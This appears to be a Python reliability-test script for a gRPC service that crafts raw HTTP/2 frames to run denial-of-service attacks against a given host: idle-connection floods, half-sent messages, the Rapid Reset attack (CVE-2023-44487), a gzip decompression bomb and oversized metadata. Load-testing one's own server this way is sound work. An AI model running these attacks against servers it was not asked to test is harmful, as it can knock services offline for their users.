"""Attacks on a server, by hand-made HTTP/2: python -m tests.reliability.attacks KIND HOST:PORT [--seconds S].

A program of its own, so that what it takes of the processor is not taken from the client that must still be served.
Prints one JSON object at its end. Frames as RFC 9113 has them; headers as RFC 7541's literals, never indexed.
"""

import argparse
import gzip
import itertools
import json
import socket
import struct
import sys
import time
from collections.abc import Callable

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 0x0, 0x1, 0x3, 0x4, 0x9
END_STREAM, END_HEADERS = 0x1, 0x4
CANCEL = 8
METHOD = "/newsbrief.v1.NewsBriefService/BriefArticle"
IDLE, HALF_SENT, BOMB_BYTES = 2000, 1000, 400 << 20
Report = dict[str, object]


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """An HTTP/2 frame."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def header_block(*more: tuple[str, str], path: str = METHOD) -> bytes:
    """The headers of a gRPC call, each a literal without indexing."""
    pairs = (
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "localhost"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        *more,
    )
    return b"".join(b"\x00" + _text(name) + _text(value) for name, value in pairs)


def _text(text: str) -> bytes:
    """A string as HPACK has it: its length in 7 bits and continuations, and its bytes."""
    data, length = text.encode(), len(text.encode())
    if length < 127:
        return bytes([length]) + data
    length -= 127
    head = bytearray(b"\x7f")
    while length >= 128:
        head.append(length % 128 + 128)
        length //= 128
    return bytes([*head, length]) + data


def connected(target: str) -> socket.socket:
    """A connection that has said HTTP/2's hello."""
    host, _, port = target.rpartition(":")
    sock = socket.create_connection((host, int(port)), timeout=20)
    sock.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
    return sock


def idle_connections(target: str, seconds: float) -> Report:
    """Connections that say nothing; how many the server has closed after `seconds`."""
    host, _, port = target.rpartition(":")
    socks = [socket.create_connection((host, int(port)), timeout=20) for _ in range(IDLE)]
    time.sleep(seconds)
    return {"opened": len(socks), "closed": sum(map(_is_closed, socks))}


def _is_closed(sock: socket.socket) -> bool:
    sock.setblocking(False)
    try:
        while data := sock.recv(1 << 16):
            _ = data
    except BlockingIOError:
        return False
    except OSError:
        return True
    return True


def half_sent(target: str, seconds: float) -> Report:
    """Calls that announce a message of 4 MB and send a small part of it."""
    socks = [connected(target) for _ in range(10)]
    part = struct.pack(">BI", 0, 4 << 20) + b"x" * 1000
    for sock, stream in itertools.product(socks, range(1, 2 * HALF_SENT // len(socks), 2)):
        sock.sendall(frame(HEADERS, END_HEADERS, stream, header_block()) + frame(DATA, 0, stream, part))
    time.sleep(seconds)
    return {"half sent": HALF_SENT}


def rapid_reset(target: str, seconds: float) -> Report:
    """Calls that are reset as soon as they are made (CVE-2023-44487)."""
    end, made = time.monotonic() + seconds, 0
    sock, stream, block = connected(target), 1, header_block()
    while time.monotonic() < end:
        burst = bytearray()
        for _ in range(100):
            burst += frame(HEADERS, END_HEADERS, stream, block)
            burst += frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
            stream += 2
        try:
            sock.sendall(burst)
            made += 100
        except OSError:  # sent away, or not read from any more: again
            sock.close()
            sock, stream = connected(target), 1
    return {"resets": made}


def bomb(target: str, seconds: float) -> Report:
    """A message of 400 MB that takes 400 KB compressed."""
    packed = gzip.compress(bytes(BOMB_BYTES), 9)
    sock = connected(target)
    message = struct.pack(">BI", 1, len(packed)) + packed
    sock.sendall(frame(HEADERS, END_HEADERS, 1, header_block(("grpc-encoding", "gzip"))))
    parts = [message[i : i + 16_384] for i in range(0, len(message), 16_384)]
    sent = 0
    for number, part in enumerate(parts, 1):
        sock.setblocking(True)
        sock.settimeout(seconds)
        try:
            sock.sendall(frame(DATA, END_STREAM * (number == len(parts)), 1, part))
            sent += len(part)
        except OSError:
            break
    time.sleep(seconds)
    return {"bomb, KB": len(message) // 1000, "sent, KB": sent // 1000}


def _answered(received: bytes) -> bool:
    """Whether headers are among the frames received; raises ConnectionError at the end of the connection."""
    if not received:
        raise ConnectionError
    at, found = 0, False
    while at + 9 <= len(received):
        found = found or received[at + 3] == HEADERS
        at += 9 + int.from_bytes(received[at : at + 3])
    return found


def metadata(target: str, seconds: float) -> Report:
    """Calls with 64 KB of metadata each, one after the other, as fast as they are refused."""
    end, calls, connections = time.monotonic() + seconds, 0, 1
    large = header_block(*((f"x-filler-{i}", "y" * 4000) for i in range(16)))
    head, *rest = (large[i : i + 16_000] for i in range(0, len(large), 16_000))
    sock, stream = connected(target), 1
    while time.monotonic() < end:
        sock.settimeout(1)
        frames = [frame(HEADERS, 0, stream, head)]
        frames += [frame(CONTINUATION, END_HEADERS * (part is rest[-1]), stream, part) for part in rest]
        frames += [frame(DATA, END_STREAM, stream, bytes(5))]
        try:
            sock.sendall(b"".join(frames))
            while not _answered(sock.recv(1 << 16)):
                pass
            calls, stream = calls + 1, stream + 2
        except OSError:  # sent away: again
            sock.close()
            sock, stream, connections = connected(target), 1, connections + 1
    return {"calls with 64 KB of metadata": calls, "connections": connections}


KINDS: dict[str, Callable[[str, float], Report]] = {
    "idle": idle_connections,
    "half-sent": half_sent,
    "rapid-reset": rapid_reset,
    "bomb": bomb,
    "metadata": metadata,
}


def main() -> int:
    """Attack."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("kind", choices=KINDS)
    parser.add_argument("target")
    parser.add_argument("--seconds", type=float, default=8)
    options = parser.parse_args()
    print(json.dumps(KINDS[options.kind](options.target, options.seconds)))
    return 0


if __name__ == "__main__":
    sys.exit(main())
